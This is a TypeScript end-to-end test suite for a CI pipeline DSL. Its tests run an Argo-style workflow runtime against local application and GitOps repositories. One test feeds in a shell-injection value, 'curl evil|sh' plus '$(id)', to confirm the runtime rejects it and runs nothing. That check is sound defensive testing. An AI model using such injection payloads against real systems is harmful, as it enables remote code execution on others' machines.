// The contract holds end to end: a pipeline compiled by @argots/dsl, executed the way Argo executes it
// (parameters substituted into each task's arguments and the template's argv, output parameters read from
// the files the template names, `when` evaluated on them), runs the REAL `argots-runtime` binary — against a
// real application repository and a real GitOps repository served over smart HTTP. Tasks that are not runtime
// steps (the image builds) are not run: their `when` and arguments are evaluated on the runtime steps' outputs.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFile } from 'node:child_process';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { container, param, pipeline, steps, synth, text } from '@argots/dsl';
import { startGitHttpServer, type GitHttpServer } from '../support/git-http-server.js';
import { execute, type Obj } from '../support/argo-executor.js';

const run = promisify(execFile);

const git = async (cwd: string, ...args: string[]): Promise<string> =>
  (await run('git', ['-c', 'user.email=dev@acme.io', '-c', 'user.name=dev', ...args], { cwd })).stdout.trim();

function write(dir: string, file: string, content: string): void {
  mkdirSync(join(dir, file, '..'), { recursive: true });
  writeFileSync(join(dir, file), content);
}

/** The organisation's dev flow, reduced to the runtime steps: detect → (build detection + deploy) | copy config. */
const devFlow = pipeline('e2e-dev-flow', (p) => {
  const repo = p.param('repo', param.string());
  const gitops = p.param('gitops', param.string());
  const before = p.param('before', param.string());
  const after = p.param('after', param.string());
  const image = p.param('image', param.string());
  const change = p.task('detect', steps.detectChanges({ repo, before, after }));
  p.task('how-to-build', steps.detectBuild({ repo }), { when: change.outputs.kind.eq('code') });
  p.task('deploy', steps.updateManifests({ gitopsUrl: gitops, service: 'api', env: 'dev', image, sourceCommit: after }), {
    when: change.outputs.kind.eq('code'),
  });
  p.task('copy-config', steps.copyConfig({
    repo, gitopsUrl: gitops, service: 'api', env: 'dev',
    files: change.outputs.configFiles, deleted: change.outputs.deletedConfigFiles, sourceCommit: after,
  }), { when: change.outputs.kind.eq('config') });
});

/**
 * The organisation's build choice (pipelines/lib/build-image.ts), reduced to its wiring: detect → how to
 * build → the Dockerfile task or the bake task, chosen by `when` on detect-build's `kind`. The two build
 * templates only have to compile: what is checked is whether each would run, and with what arguments.
 */
const dockerfileBuild = container('dockerfile-build', {
  inputs: { context: param.string(), dockerfiles: param.json() },
  container: (i) => ({ image: 'moby/buildkit:v0.16.0-rootless', command: ['buildctl-daemonless.sh'], args: ['build', '--local', i.context, '--opt', i.dockerfiles] }),
});
const bakeBuild = container('bake-build', {
  inputs: { context: param.string(), targets: param.json() },
  container: (i) => ({ image: 'docker:27.3-cli', command: ['sh', '-c', 'cd "$1" && docker buildx bake --push default', 'bake'], args: [i.context], env: { TARGETS: i.targets } }),
});
const buildFlow = pipeline('e2e-build-flow', (p) => {
  const repo = p.param('repo', param.string());
  const context = p.param('context', param.string());
  const before = p.param('before', param.string());
  const after = p.param('after', param.string());
  const change = p.task('detect', steps.detectChanges({ repo, before, after }));
  const how = p.task('how-to-build', steps.detectBuild({ repo, context }), { when: change.outputs.kind.eq('code') });
  p.task('dockerfile', dockerfileBuild.call({ context: text`${repo}/${context}`, dockerfiles: how.outputs.dockerfiles }), {
    when: how.outputs.kind.eq('dockerfile'),
  });
  p.task('bake', bakeBuild.call({ context: text`${repo}/${context}`, targets: how.outputs.targets }), { when: how.outputs.kind.eq('bake') });
});


let server: GitHttpServer;
let scratch: string;
let app: string;
let gitopsUrl: string;
let workflow: Obj;

test.before(async () => {
  const compiled = synth([{ value: devFlow, exportName: 'default', file: 'test/e2e/compiled-steps.test.ts' }]);
  assert.equal(compiled.diagnostics.filter((d) => d.severity === 'error'), []);
  workflow = compiled.files[0]?.object as Obj;
  scratch = mkdtempSync(join(tmpdir(), 'argots-e2e-'));
  server = await startGitHttpServer();
  gitopsUrl = server.createRepo('acme/gitops.git');
  const seed = join(scratch, 'gitops-seed');
  mkdirSync(seed);
  await git(seed, 'init', '-q', '-b', 'main');
  write(seed, 'argots.yaml', [
    'defaults:', '  path: apps/{service}/overlays/{env}', 'environments: [dev]',
    'services:', '  api:', '    images: [registry.dev.acme.io/acme/api]', '    config:', '      - { from: config, to: config }', '',
  ].join('\n'));
  write(seed, 'apps/api/overlays/dev/kustomization.yaml', [
    '# dev overlay of the api', 'resources: []', 'images:', '  - name: registry.dev.acme.io/acme/api', '    newTag: old # replaced by argots', '',
  ].join('\n'));
  await git(seed, 'add', '.');
  await git(seed, 'commit', '-qm', 'seed');
  await git(seed, 'push', '-q', gitopsUrl, 'main');

  app = join(scratch, 'app');
  mkdirSync(app);
  await git(app, 'init', '-q', '-b', 'dev');
  write(app, 'Dockerfile', 'FROM scratch\nCOPY main /main\n');
  write(app, 'src/main.go', 'package main\n');
  write(app, 'config/app.yaml', 'greeting: hello\n');
  await git(app, 'add', '.');
  await git(app, 'commit', '-qm', 'first');
});

test.after(async () => {
  await server.close();
  rmSync(scratch, { recursive: true, force: true });
});

async function gitopsFile(path: string): Promise<string | undefined> {
  try {
    return await git(scratch, '--git-dir', server.repoPath('acme/gitops.git'), 'show', `main:${path}`);
  } catch {
    return undefined;
  }
}

test('given a configuration-only push, then detect says config, the build and deploy are skipped, and the config lands in GitOps', async () => {
  const before = await git(app, 'rev-parse', 'HEAD');
  write(app, 'config/app.yaml', 'greeting: hola\n');
  await git(app, 'commit', '-qam', 'config: greet in Spanish');
  const after = await git(app, 'rev-parse', 'HEAD');
  const image = `registry.dev.acme.io/acme/api:${after.slice(0, 7)}@sha256:${'a'.repeat(64)}`;
  const runs = await execute(workflow, { repo: app, gitops: gitopsUrl, before, after, image }, mkdtempSync(join(scratch, 'run-')));
  const detect = runs.get('detect');
  assert.is(detect?.code, 0, detect?.stderr);
  assert.is(detect?.outputs['kind'], 'config');
  assert.equal(JSON.parse(detect?.outputs['configFiles'] ?? 'null'), ['config/app.yaml']);
  assert.ok(runs.get('how-to-build')?.skipped);
  assert.ok(runs.get('deploy')?.skipped);
  const copy = runs.get('copy-config');
  assert.is(copy?.code, 0, copy?.stderr);
  assert.is(copy?.outputs['changed'], 'true');
  assert.is(await gitopsFile('apps/api/overlays/dev/config/app.yaml'), 'greeting: hola');
  assert.ok(JSON.parse(copy?.stdout ?? '{}').ok, 'the runtime printed one JSON result');
});

test('given a code push, then the build is detected from the Dockerfile and the dev overlay gets the image by digest', async () => {
  const before = await git(app, 'rev-parse', 'HEAD');
  write(app, 'src/main.go', 'package main\n\nfunc main() {}\n');
  await git(app, 'commit', '-qam', 'feat: a main function');
  const after = await git(app, 'rev-parse', 'HEAD');
  const digest = `sha256:${'b'.repeat(64)}`;
  const image = `registry.dev.acme.io/acme/api:${after.slice(0, 7)}@${digest}`;
  const runs = await execute(workflow, { repo: app, gitops: gitopsUrl, before, after, image }, mkdtempSync(join(scratch, 'run-')));
  assert.is(runs.get('detect')?.outputs['kind'], 'code');
  const build = runs.get('how-to-build');
  assert.is(build?.code, 0, build?.stderr);
  assert.is(build?.outputs['kind'], 'dockerfile');
  assert.equal(JSON.parse(build?.outputs['dockerfiles'] ?? 'null'), ['Dockerfile']);
  const deploy = runs.get('deploy');
  assert.is(deploy?.code, 0, deploy?.stderr);
  assert.is(deploy?.outputs['changed'], 'true');
  assert.ok(runs.get('copy-config')?.skipped);
  const overlay = await gitopsFile('apps/api/overlays/dev/kustomization.yaml');
  assert.match(overlay ?? '', `digest: ${digest}`);
  assert.match(overlay ?? '', '# dev overlay of the api', 'comments survive the update');
  const log = await git(scratch, '--git-dir', server.repoPath('acme/gitops.git'), 'log', '-1', '--format=%B', 'main');
  assert.match(log, `Source-Commit: ${after}`);
});

test('given the same code push again (a retried workflow), then nothing new is committed', async () => {
  const tip = await git(scratch, '--git-dir', server.repoPath('acme/gitops.git'), 'rev-parse', 'main');
  const after = await git(app, 'rev-parse', 'HEAD');
  const before = await git(app, 'rev-parse', 'HEAD~1');
  const image = `registry.dev.acme.io/acme/api:${after.slice(0, 7)}@sha256:${'b'.repeat(64)}`;
  const runs = await execute(workflow, { repo: app, gitops: gitopsUrl, before, after, image }, mkdtempSync(join(scratch, 'run-')));
  assert.is(runs.get('deploy')?.outputs['changed'], 'false');
  assert.is(await git(scratch, '--git-dir', server.repoPath('acme/gitops.git'), 'rev-parse', 'main'), tip);
});

test('given a hostile commit range value, then the compiled step passes it as one argv element and the runtime refuses it cleanly', async () => {
  const hostile = 'x";curl evil|sh;" $(id)';
  const marker = join(scratch, 'pwned');
  const runs = await execute(workflow, { repo: app, gitops: gitopsUrl, before: `${hostile} > ${marker}`, after: hostile, image: 'x' }, mkdtempSync(join(scratch, 'run-')));
  const detect = runs.get('detect');
  assert.is(detect?.code, 1, 'a user error, not a crash');
  assert.match(detect?.stderr ?? '', '--before expected');
  assert.not.ok(existsSync(marker), 'nothing was executed by a shell');
});

test('given a code push to a service that builds with a multi-target docker-bake.hcl, then detect-build says bake and the bake task is chosen with the resolved targets, not the Dockerfile task', async () => {
  const compiled = synth([{ value: buildFlow, exportName: 'buildFlow', file: 'test/e2e/compiled-steps.test.ts' }]);
  assert.equal(compiled.diagnostics.filter((d) => d.severity === 'error'), []);
  const wf = compiled.files[0]?.object as Obj;
  const repo = join(scratch, 'bake-app');
  mkdirSync(repo);
  await git(repo, 'init', '-q', '-b', 'dev');
  write(repo, 'services/api/docker-bake.hcl', [
    'variable "REGISTRY" { default = "registry.dev.acme.io/acme" }',
    'variable "TAG" { default = "dev" }',
    'group "default" { targets = ["api", "worker"] }',
    'target "_common" {', '  context = "."', '  args = { GO_VERSION = "1.22" }', '}',
    'target "api" {', '  inherits = ["_common"]', '  dockerfile = "Dockerfile"', '  tags = ["${REGISTRY}/api:${TAG}"]', '}',
    'target "worker" {', '  inherits = ["_common"]', '  dockerfile = "worker.Dockerfile"', '  tags = ["${REGISTRY}/worker:${TAG}"]', '}', '',
  ].join('\n'));
  write(repo, 'services/api/Dockerfile', 'FROM scratch\nCOPY api /api\n');
  write(repo, 'services/api/worker.Dockerfile', 'FROM scratch\nCOPY worker /worker\n');
  write(repo, 'services/api/src/main.go', 'package main\n');
  await git(repo, 'add', '.');
  await git(repo, 'commit', '-qm', 'first');
  const before = await git(repo, 'rev-parse', 'HEAD');
  write(repo, 'services/api/src/main.go', 'package main\n\nfunc main() {}\n');
  await git(repo, 'commit', '-qam', 'feat: a main function');
  const after = await git(repo, 'rev-parse', 'HEAD');
  const parameters = { repo, context: 'services/api', before, after };

  const runs = await execute(wf, parameters, mkdtempSync(join(scratch, 'run-')));
  assert.equal([...runs].map(([name, r]) => [name, r.ran]), [['detect', true], ['how-to-build', true], ['dockerfile', false], ['bake', false]], 'the runtime steps ran; the builds were only decided');
  assert.is(runs.get('detect')?.outputs['kind'], 'code');
  const how = runs.get('how-to-build');
  assert.is(how?.code, 0, how?.stderr);
  assert.is(how?.outputs['kind'], 'bake');
  assert.equal(JSON.parse(how?.outputs['bakeFiles'] ?? 'null'), ['services/api/docker-bake.hcl']);
  assert.equal(JSON.parse(how?.outputs['dockerfiles'] ?? 'null'), ['services/api/Dockerfile', 'services/api/worker.Dockerfile'], 'Dockerfiles are there too: the bake file wins');

  assert.ok(runs.get('dockerfile')?.skipped, 'the Dockerfile task is not chosen');
  const bake = runs.get('bake');
  assert.not.ok(bake?.skipped, 'the bake task is chosen');
  assert.is(bake?.inputs['context'], `${repo}/services/api`);
  const targets = JSON.parse(bake?.inputs['targets'] ?? 'null') as { name: string; dockerfile: string; tags: string[]; args: Record<string, string> }[];
  assert.equal(targets.map((t) => ({ name: t.name, dockerfile: t.dockerfile, tags: t.tags, args: t.args })), [
    { name: 'api', dockerfile: 'Dockerfile', tags: ['registry.dev.acme.io/acme/api:dev'], args: { GO_VERSION: '1.22' } },
    { name: 'worker', dockerfile: 'worker.Dockerfile', tags: ['registry.dev.acme.io/acme/worker:dev'], args: { GO_VERSION: '1.22' } },
  ]);
});

test.run();
